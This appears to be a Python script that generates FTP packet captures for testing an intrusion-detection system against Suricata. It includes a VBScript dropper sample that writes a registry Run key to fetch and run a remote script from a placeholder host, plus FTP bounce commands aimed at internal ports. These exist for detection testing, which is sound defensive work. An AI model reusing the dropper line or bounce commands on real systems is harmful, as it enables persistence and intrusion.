#!/usr/bin/env python3
"""Builds the FTP conformance captures under tests/data/conformance/ftp-*/:
an FTP control connection per case and, where its commands announce them,
the data connections (PORT/EPRT active, PASV/EPSV passive), as a real
client and server exchange them (handshake, each segment acknowledged,
FIN on both sides).

    pip install --break-system-packages scapy
    scripts/conformance/ftp.py            # rewrites every input.pcap

The outputs are committed; each folder's test.yaml holds the expectations,
compared with what the reference Suricata 8.0.6 writes for the capture
(scripts/suricata-oracle.py, then `mirrorids verify --judge-eve`).
Deterministic: fixed addresses, ports, sequence numbers and timestamps.
"""
import os
import sys

from scapy.all import IP, TCP, Ether, Raw, wrpcap  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.normpath(os.path.join(HERE, "..", "..", "tests", "data", "conformance"))

# The capture's clock: every packet 1 ms after the previous one.
T0 = 1_717_200_000.0
MSS = 1400


class Capture:
    """Packets of several connections in capture order."""

    def __init__(self):
        self.pkts = []
        self.t = T0

    def add(self, pkt):
        self.t += 0.001
        pkt.time = self.t
        self.pkts.append(pkt)

    def write(self, case):
        d = os.path.join(OUT, case)
        os.makedirs(d, exist_ok=True)
        wrpcap(os.path.join(d, "input.pcap"), self.pkts)


class Tcp:
    """One TCP connection: handshake, data acknowledged segment by segment
    (so the receiver's ACK hands each piece to the application layer),
    FIN from both sides."""

    def __init__(self, cap, client, cport, server, sport, isn=1000):
        self.cap = cap
        self.ends = [(client, cport), (server, sport)]
        self.seq = [isn, isn * 7 + 12345]
        self.open()

    def _pkt(self, d, flags, payload=b""):
        (src, sp), (dst, dp) = self.ends[d], self.ends[1 - d]
        ack = self.seq[1 - d] if "A" in flags else 0
        p = Ether(src="02:00:00:00:00:0%d" % (d + 1), dst="02:00:00:00:00:0%d" % (2 - d))
        p = p / IP(src=src, dst=dst, ttl=64 - d) / TCP(sport=sp, dport=dp, flags=flags, seq=self.seq[d], ack=ack,
                                                      window=65535)
        if payload:
            p = p / Raw(load=payload)
        self.cap.add(p)
        self.seq[d] = (self.seq[d] + len(payload) + (1 if ("S" in flags or "F" in flags) else 0)) & 0xFFFFFFFF

    def open(self):
        self._pkt(0, "S")
        self._pkt(1, "SA")
        self._pkt(0, "A")

    def send(self, d, data, split=None):
        """Direction d (0 = client) sends `data`, cut at the offsets in
        `split` (and at the MSS); each segment is acknowledged."""
        cuts = sorted(set([0, len(data)] + list(split or [])))
        for a, b in zip(cuts, cuts[1:]):
            for i in range(a, b, MSS):
                self._pkt(d, "PA", data[i:min(b, i + MSS)])
                self._pkt(1 - d, "A")

    def client(self, data, split=None):
        self.send(0, data, split)

    def server(self, data, split=None):
        self.send(1, data, split)

    def close(self, first=0):
        self._pkt(first, "FA")
        self._pkt(1 - first, "FA")
        self._pkt(first, "A")


def port_arg(ip, port):
    return ",".join(ip.split(".") + [str(port >> 8), str(port & 255)])


# A VBScript dropper of the kind ET HUNTING sid 2034695 looks for in
# ftp-data (Kimsuky).
VBS = (b'Set sh = CreateObject("WScript.Shell")\r\n'
       b'sh.Run "cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd '
       b'/d ""wscript ftp://files.example.net/update/abcdefgh.vbs"" /f", 0\r\n')


def session():
    """Active and passive transfers, both directions, multi-line banner."""
    cap = Capture()
    cli, srv = "192.168.10.5", "203.0.113.21"
    c = Tcp(cap, cli, 40001, srv, 21)
    c.server(b"220-Welcome to the test FTP service.\r\n220-Second line of the banner.\r\n220 Ready.\r\n")
    c.client(b"USER anonymous\r\n")
    c.server(b"331 Please specify the password.\r\n")
    c.client(b"PASS guest@example.org\r\n")
    c.server(b"230 Login successful.\r\n")
    c.client(b"SYST\r\n")
    c.server(b"215 UNIX Type: L8\r\n")
    c.client(b"TYPE I\r\n")
    c.server(b"200 Switching to Binary mode.\r\n")
    # Active download: the server connects back from port 20.
    c.client(b"PORT " + port_arg(cli, 40010).encode() + b"\r\n")
    c.server(b"200 PORT command successful. Consider using PASV.\r\n")
    c.client(b"RETR readme.txt\r\n")
    c.server(b"150 Opening BINARY mode data connection for readme.txt (26 bytes).\r\n")
    d = Tcp(cap, srv, 20, cli, 40010, isn=5000)
    d.client(b"hello from the ftp server\n")
    d.close()
    c.server(b"226 Transfer complete.\r\n")
    # Passive download of the script (alerts: sid 2034695, ftpdata_command).
    c.client(b"PASV\r\n")
    c.server(b"227 Entering Passive Mode (203,0,113,21,195,80).\r\n")
    d = Tcp(cap, cli, 40020, srv, 50000, isn=7000)
    c.client(b"RETR tools.vbs\r\n")
    c.server(b"150 Opening BINARY mode data connection for tools.vbs (%d bytes).\r\n" % len(VBS))
    d.server(VBS)
    d.close(first=1)
    c.server(b"226 Transfer complete.\r\n")
    # Passive upload (EPSV).
    c.client(b"EPSV\r\n")
    c.server(b"229 Entering Extended Passive Mode (|||50001|)\r\n")
    d = Tcp(cap, cli, 40021, srv, 50001, isn=9000)
    c.client(b"STOR upload.bin\r\n")
    c.server(b"150 Ok to send data.\r\n")
    d.client(bytes(range(256)) * 8)
    d.close()
    c.server(b"226 Transfer complete.\r\n")
    # Active upload (EPRT): the server connects back, the client sends.
    c.client(b"EPRT |1|" + cli.encode() + b"|40030|\r\n")
    c.server(b"200 EPRT command successful. Consider using EPSV.\r\n")
    c.client(b"STOR notes.txt\r\n")
    c.server(b"150 Ok to send data.\r\n")
    d = Tcp(cap, srv, 20, cli, 40030, isn=11000)
    d.server(b"some notes\n")
    d.close(first=1)
    c.server(b"226 Transfer complete.\r\n")
    c.client(b"QUIT\r\n")
    c.server(b"221 Goodbye.\r\n")
    c.close(first=1)
    cap.write("ftp-session")


def bounce():
    """PORT commands naming another host (an FTP bounce), and the client's
    own address (no bounce)."""
    cap = Capture()
    cli, srv = "198.51.100.7", "192.168.20.2"
    c = Tcp(cap, cli, 41000, srv, 21)
    c.server(b"220 (vsFTPd 3.0.3)\r\n")
    c.client(b"USER ftp\r\n")
    c.server(b"331 Please specify the password.\r\n")
    c.client(b"PASS ftp\r\n")
    c.server(b"230 Login successful.\r\n")
    # Bounce to an internal host's SMTP port.
    c.client(b"PORT 10,1,2,3,0,25\r\n")
    c.server(b"200 PORT command successful.\r\n")
    c.client(b"LIST\r\n")
    c.server(b"425 Failed to establish connection.\r\n")
    # The client's own address: not a bounce.
    c.client(b"PORT " + port_arg(cli, 41001).encode() + b"\r\n")
    c.server(b"200 PORT command successful.\r\n")
    # Lowercase, spaces around the numbers: still a bounce for Suricata.
    c.client(b"port 10 ,9,8,7,4,1\r\n")
    c.server(b"500 Illegal PORT command.\r\n")
    # Split over three segments.
    c.client(b"PORT 172,16,0,9,0,80\r\n", split=[3, 9])
    c.server(b"200 PORT command successful.\r\n")
    # Suricata tests the connection's latest command: a PORT pipelined
    # after a NOOP makes both transactions match, one before a NOOP none.
    c.client(b"NOOP\r\nPORT 10,1,2,3,0,21\r\n")
    c.server(b"200 NOOP ok.\r\n200 PORT command successful.\r\n")
    c.client(b"PORT 10,1,2,3,0,22\r\nNOOP\r\n")
    c.server(b"200 PORT command successful.\r\n200 NOOP ok.\r\n")
    c.client(b"QUIT\r\n")
    c.server(b"221 Goodbye.\r\n")
    c.close()
    cap.write("ftp-bounce")


def edge():
    """What a parser meets on the wire: lines cut anywhere, pipelined
    commands, multi-line replies, LF-only lines, unknown and lowercase
    commands, an over-long command, a reply nobody asked for, garbage."""
    cap = Capture()
    cli, srv = "192.168.30.9", "192.168.30.1"
    c = Tcp(cap, cli, 42000, srv, 21)
    c.server(b"220 edge server ready\r\n", split=[5, 21])
    c.client(b"USER bob\r\n", split=[2])
    c.server(b"331 Password required for bob.\r\n")
    c.client(b"PASS secret\r\n")
    c.server(b"230 User bob logged in.\r\n")
    # Pipelined: three commands in one segment, their replies in another.
    c.client(b"CWD /pub\r\nPWD\r\nNOOP\r\n")
    c.server(b'250 CWD command successful.\r\n257 "/pub" is the current directory.\r\n200 NOOP ok.\r\n')
    # A multi-line reply, cut in the middle of its second line.
    c.client(b"HELP\r\n")
    c.server(b"214-The following commands are recognized:\r\n USER PASS QUIT\r\n214 Help OK.\r\n", split=[50])
    c.client(b"XYZZY plugh\r\n")
    c.server(b"500 Unknown command.\r\n")
    c.client(b"noop\r\n")
    c.server(b"200 NOOP ok.\r\n")
    c.client(b"SYST\n")
    c.server(b"215 UNIX Type: L8\n")
    c.client(b"SITE " + b"A" * 5000 + b"\r\n")
    c.server(b"500 Command line too long.\r\n")
    c.client(b"STAT\r\n")
    c.server(b"211-Status:\r\n211-  connected\r\n211 End of status\r\n")
    c.server(b"421 Timeout.\r\n")
    c.client(b"\x00\xff\x10garbage\r\n\r\nMKD new dir\r\n")
    c.server(b"500 ?\r\nnot a reply line\r\n257 created\r\n")
    c.client(b"QUIT\r\n")
    c.server(b"221 Goodbye.\r\n")
    c.close()
    cap.write("ftp-edge")


def detect():
    """How Suricata 8 tells FTP: a `220` banner on port 21 (the client's
    unrecognised first command is then held, and parsed only when its
    stream ends), `USER ` on any port, and not `user ` in lowercase."""
    cap = Capture()
    cli, srv = "192.168.40.2", "192.168.40.1"
    c = Tcp(cap, cli, 43000, srv, 21)
    c.server(b"220 FTP server ready\r\n")
    c.client(b"SYST\r\n")
    c.server(b"215 UNIX Type: L8\r\n")
    c.client(b"QUIT\r\n")
    c.server(b"221 Goodbye.\r\n")
    c.close(first=1)
    c = Tcp(cap, cli, 43001, srv, 2121)
    c.server(b"220 Ready\r\n")
    c.client(b"USER x\r\n")
    c.server(b"331 Password required.\r\n")
    c.close()
    c = Tcp(cap, cli, 43002, srv, 2121)
    c.server(b"220 Ready\r\n")
    c.client(b"user x\r\n")
    c.server(b"331 Password required.\r\n")
    c.close()
    cap.write("ftp-detect")


def main():
    for build in (session, bounce, edge, detect):
        build()
    return 0


if __name__ == "__main__":
    sys.exit(main())
